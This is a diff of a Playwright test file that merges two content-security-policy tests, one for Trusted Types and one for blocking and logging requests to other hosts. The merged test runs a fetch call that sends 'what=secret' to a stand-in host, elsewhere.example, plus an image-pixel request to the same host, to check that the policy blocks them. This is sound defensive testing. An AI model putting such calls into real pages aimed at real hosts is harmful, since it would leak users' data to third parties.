@@ -97,8 +97,9 @@ test.describe('the content security policy', () => {
       await expect(page.getByRole('gridcell').first()).toBeVisible();
     });
 
-    test('refuses to turn text into markup or code, and allows no further policy of Trusted Types [content-security.4]', async ({
+    test('refuses to turn text into markup or code, allows no further policy of Trusted Types, and blocks requests to other hosts, each of which the server logs [content-security.2] [content-security.4]', async ({
       page,
+      portal,
       violations,
     }) => {
       await openWith(page, '');
@@ -142,14 +143,7 @@ test.describe('the content security policy', () => {
       ]);
       await violations.take('require-trusted-types-for', 'require-trusted-types-for', 'trusted-types');
       expect(await ran(page)).toEqual([]);
-    });
 
-    test('blocks requests to other hosts, and the server logs each attempt [content-security.2]', async ({
-      page,
-      portal,
-      violations,
-    }) => {
-      await openWith(page, '');
       await page.evaluate(async () => {
         await fetch('https://elsewhere.example/?what=secret').catch(() => undefined);
         new Image().src = 'https://elsewhere.example/pixel';
